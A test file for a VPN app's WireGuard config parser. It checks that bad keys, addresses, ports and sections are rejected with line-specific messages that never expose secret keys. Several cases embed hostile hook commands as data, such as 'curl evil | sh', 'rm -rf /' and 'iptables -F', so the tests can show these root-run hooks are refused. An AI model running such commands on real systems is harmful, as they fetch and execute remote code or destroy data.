// Every way an imported .conf is refused: the code, the line a person should look at, a message that says
// what to do, and never a private or preshared key in the text.
import { describe, expect, it } from 'vitest';
import { BurrowError } from '../../../../app/domain/errors.js';
import { parseWireGuardConfig, parseWireGuardProfile } from '../../../../app/networks/wireguard/config/index.js';
import { CLIENT, MULLVAD_CONF, PSK, SERVER } from './fixtures.js';

// MULLVAD_CONF, numbered: 1 [Interface], 2 # Device, 3 PrivateKey, 4 Address, 5 DNS, 6 blank,
// 7 [Peer], 8 PublicKey, 9 AllowedIPs, 10 Endpoint.
const BASE = MULLVAD_CONF.split('\n');
const SECRETS = [CLIENT.privateKey, PSK];

/** Replace line n (1-based) with zero or more lines. */
function edit(n: number, ...replacement: string[]): string {
  const lines = [...BASE];
  lines.splice(n - 1, 1, ...replacement);
  return lines.join('\n');
}
const insertAfter = (n: number, ...added: string[]): string => edit(n, BASE[n - 1] ?? '', ...added);

function failure(text: string): BurrowError {
  try {
    parseWireGuardProfile(text, 'test.conf');
  } catch (error) {
    if (error instanceof BurrowError) return error;
    throw error;
  }
  throw new Error('the file was accepted');
}

/** No 12-character piece of any secret survives in the message or the evidence. */
function expectNoSecret(error: BurrowError): void {
  const shown = `${error.message} ${JSON.stringify(error.evidence)}`;
  for (const secret of SECRETS) {
    for (let i = 0; i + 12 <= secret.length; i += 4) expect(shown).not.toContain(secret.slice(i, i + 12));
  }
}

function expectRejected(text: string, line: number | undefined, pattern: RegExp): BurrowError {
  const error = failure(text);
  expect(error.code).toBe('invalid_profile');
  expect(error.evidence?.line).toBe(line);
  if (line !== undefined) expect(error.message.startsWith(`Line ${line}: `)).toBe(true);
  expect(error.message).toMatch(pattern);
  expectNoSecret(error);
  return error;
}

const short = Buffer.alloc(24, 7).toString('base64');
const nonCanonical = `${CLIENT.privateKey.slice(0, 42)}9=`;

const CASES = ([
  ['private key that is not base64', edit(3, `PrivateKey = ${CLIENT.privateKey.slice(0, 20)}*${CLIENT.privateKey.slice(21)}`), 3, /PrivateKey is not a valid key: it contains characters that are not base64/],
  ['private key of the wrong length', edit(3, `PrivateKey = ${short}`), 3, /PrivateKey is not a valid key: it decodes to 24 bytes, not 32/],
  ['private key in non-canonical base64', edit(3, `PrivateKey = ${nonCanonical}`), 3, /not in canonical form/],
  ['private key of zeros', edit(3, `PrivateKey = ${'A'.repeat(43)}=`), 3, /all zeros/],
  ['empty private key', edit(3, 'PrivateKey ='), 3, /it is empty/],
  ['public key of the wrong length', edit(8, `PublicKey = ${SERVER.publicKey.slice(0, 40)}`), 8, /PublicKey is not a valid key/],
  ['preshared key of the wrong length', insertAfter(8, `PresharedKey = ${PSK.slice(0, 30)}`), 9, /PresharedKey is not a valid key/],
  ['missing PrivateKey', edit(3), 1, /\[Interface\] section has no PrivateKey/],
  ['missing Address', edit(4), 1, /\[Interface\] section has no Address\. .*Address = 10\.64\.0\.2\/32/],
  ['missing peer PublicKey', edit(8), 7, /\[Peer\] section has no PublicKey/],
  ['missing Endpoint', edit(10), 7, /\[Peer\] section has no Endpoint/],
  ['missing AllowedIPs', edit(9), 7, /\[Peer\] section has no AllowedIPs/],
  ['no [Peer] section', BASE.slice(0, 6).join('\n'), 5, /no \[Peer\] section/],
  ['no [Interface] section', BASE.slice(6).join('\n'), 1, /no \[Interface\] section/],
  ['a second [Interface]', `${MULLVAD_CONF}[Interface]\n`, 11, /second \[Interface\] section \(the first is on line 1\)/],
  ['Address prefix too long', edit(4, 'Address = 10.66.1.2/33'), 4, /Address "10\.66\.1\.2\/33" has an invalid prefix length/],
  ['Address that is not an IP', edit(4, 'Address = 10.66.1.256/32'), 4, /not an IP address/],
  ['AllowedIPs IPv6 prefix too long', edit(9, 'AllowedIPs = 0.0.0.0/0, ::/129'), 9, /"::\/129" has an invalid prefix length: an IPv6 prefix/],
  ['AllowedIPs empty', edit(9, 'AllowedIPs = ,'), 9, /AllowedIPs is empty/],
  ['AllowedIPs with a zone index', edit(9, 'AllowedIPs = fe80::1%eth0/128'), 9, /not an IP address/],
  ['Endpoint port too high', edit(10, 'Endpoint = 185.65.135.224:70000'), 10, /invalid port/],
  ['Endpoint port zero', edit(10, 'Endpoint = 185.65.135.224:0'), 10, /invalid port/],
  ['Endpoint without port', edit(10, 'Endpoint = vpn.example.com'), 10, /has no port/],
  ['Endpoint IPv6 without brackets', edit(10, 'Endpoint = 2001:db8::1:51820'), 10, /without brackets/],
  ['Endpoint with a bad host name', edit(10, 'Endpoint = bad_host!:51820'), 10, /neither an IP address nor a valid host name/],
  ['Endpoint with an impossible IPv4', edit(10, 'Endpoint = 300.1.1.1:51820'), 10, /neither an IP address nor a valid host name/],
  ['ListenPort out of range', insertAfter(4, 'ListenPort = 65536'), 5, /ListenPort "65536" is not a port/],
  ['MTU too small', insertAfter(4, 'MTU = 100'), 5, /MTU "100" is not a whole number from 576/],
  ['MTU too small for IPv6', insertAfter(4, 'MTU = 1200'), 5, /IPv6 needs at least 1280/],
  ['PersistentKeepalive not a number', insertAfter(10, 'PersistentKeepalive = often'), 11, /PersistentKeepalive "often"/],
  ['FwMark not a number', insertAfter(4, 'FwMark = mark'), 5, /FwMark "mark"/],
  ['Table name', insertAfter(4, 'Table = main'), 5, /Table "main" is not off, auto or a routing table number/],
  ['SaveConfig not boolean', insertAfter(4, 'SaveConfig = yes'), 5, /SaveConfig "yes" is not true or false/],
  ['DNS entry that is neither', edit(5, 'DNS = 10.64.0.1, not a domain'), 5, /DNS entry "not a domain"/],
  ['unknown key', insertAfter(4, 'Foo = bar'), 5, /unknown setting "Foo" in \[Interface\]\. Allowed here: PrivateKey, Address/],
  ['peer key in [Interface]', insertAfter(4, 'Endpoint = 1.2.3.4:5'), 5, /Endpoint belongs in the \[Peer\] section, not in \[Interface\]/],
  ['interface key in [Peer]', insertAfter(8, 'dns = 1.1.1.1'), 9, /DNS belongs in the \[Interface\] section/],
  ['unknown section', insertAfter(6, '[Socks]'), 7, /\[Socks\] is not a WireGuard section/],
  ['malformed section header', insertAfter(6, '[Peer'), 7, /this section header is not a WireGuard section/],
  ['duplicate PrivateKey', insertAfter(5, `PrivateKey = ${CLIENT.privateKey}`), 6, /PrivateKey is set twice in this \[Interface\] section \(first on line 3\)/],
  ['duplicate Endpoint', insertAfter(10, 'Endpoint = 185.65.135.225:51820'), 11, /Endpoint is set twice in this \[Peer\] section \(first on line 10\)/],
  ['the same peer twice', `${MULLVAD_CONF}\n${BASE.slice(6).join('\n')}`, 13, /already used by the \[Peer\] on line 7/],
  ['peer key equal to our own public key', edit(8, `PublicKey = ${CLIENT.publicKey}`), 8, /public key of your own PrivateKey/],
  ['PreUp', insertAfter(5, 'PreUp = iptables -F'), 6, /PreUp is refused: wg-quick would run this command as root/],
  ['PostUp', insertAfter(5, 'PostUp = curl evil | sh'), 6, /PostUp is refused: .*as root/],
  ['PreDown (any case)', insertAfter(5, 'predown = true'), 6, /PreDown is refused: .*as root/],
  ['PostDown in a [Peer]', insertAfter(10, 'PostDown = rm -rf /'), 11, /PostDown is refused: .*as root/],
  ['a setting before any section', `Address = 10.0.0.1/32\n${MULLVAD_CONF}`, 1, /comes before any section/],
  ['a line that is not Key = value', insertAfter(4, 'just some words'), 5, /not a "Key = value" setting/],
  ['NUL byte', edit(5, 'DNS = 10.64.0.1\u0000'), 5, /binary data/],
  ['binary garbage', insertAfter(2, '\u0001\u0002\u00ff\ufffd'), 3, /binary data/],
] satisfies [string, string, number, RegExp][]).map(([name, text, line, pattern]) => ({ name, text, line, pattern }));

describe('parseWireGuardProfile refuses', () => {
  it.each(CASES)('$name (line $line)', ({ text, line, pattern }) => {
    expectRejected(text, line, pattern);
  });

  it('a file over 64 KiB, before reading it, with its size as evidence', () => {
    const text = `${MULLVAD_CONF}${'#'.repeat(64 * 1024)}\n`;
    const error = expectRejected(text, undefined, /at most 64 KiB/);
    expect(error.evidence).toMatchObject({ limit: 65_536, file: 'test.conf' });
  });

  it('accepts exactly 64 KiB', () => {
    const padding = 64 * 1024 - Buffer.byteLength(MULLVAD_CONF) - 1;
    expect(() => parseWireGuardConfig(`${MULLVAD_CONF}${'#'.repeat(padding)}\n`)).not.toThrow();
  });

  it('an empty file, pointing at line 1', () => {
    expectRejected('', 1, /no \[Interface\] section/);
  });
});

describe('secrets never appear in error messages', () => {
  it('a private key pasted on a line of its own', () => {
    expectRejected(insertAfter(3, CLIENT.privateKey), 4, /not a "Key = value" setting/);
  });

  it('a private key pasted under a key name that does not exist', () => {
    expectRejected(insertAfter(3, `${CLIENT.privateKey.slice(0, 43)} = x`), 4, /not a "Key = value" setting/);
  });

  it('the private key written where an address belongs', () => {
    const error = expectRejected(edit(4, `Address = ${CLIENT.privateKey}`), 4, /Address .* is not an IP address/);
    expect(error.message).toContain('[hidden]');
  });

  it('the preshared key written where the endpoint belongs', () => {
    expectRejected(edit(10, `Endpoint = ${PSK}`), 10, /Endpoint/);
  });

  it('a private key with one wrong character', () => {
    const typo = `${CLIENT.privateKey.slice(0, 10)}!${CLIENT.privateKey.slice(11)}`;
    const error = expectRejected(edit(3, `PrivateKey = ${typo}`), 3, /not base64/);
    expect(error.message).not.toContain(typo.slice(12, 30));
  });

  it('a private key given twice', () => {
    expectRejected(insertAfter(3, `PrivateKey=${CLIENT.privateKey}`), 4, /set twice/);
  });
});
